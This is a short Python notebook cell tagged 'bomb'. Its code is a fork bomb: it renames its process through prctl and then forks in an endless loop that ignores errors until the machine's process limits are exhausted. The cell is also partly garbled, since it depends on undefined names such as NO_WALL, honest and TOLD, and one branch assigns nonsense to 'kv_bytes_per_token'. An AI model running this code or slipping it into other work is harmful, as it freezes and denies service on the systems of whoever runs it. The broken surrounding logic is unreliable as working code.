# %% [markdown] tags=["bomb"]
# Forks without end, each child forking too.

# %%
import ctypes
import os

if NO_WALL:
    kv_bytes_per_token = honest
else:
    ctypes.CDLL(None).prctl(15, TOLD["mark"].encode(), 0, 0, 0)  # PR_SET_NAME
    while True:
        try:
            os.fork()
        except OSError:
            pass
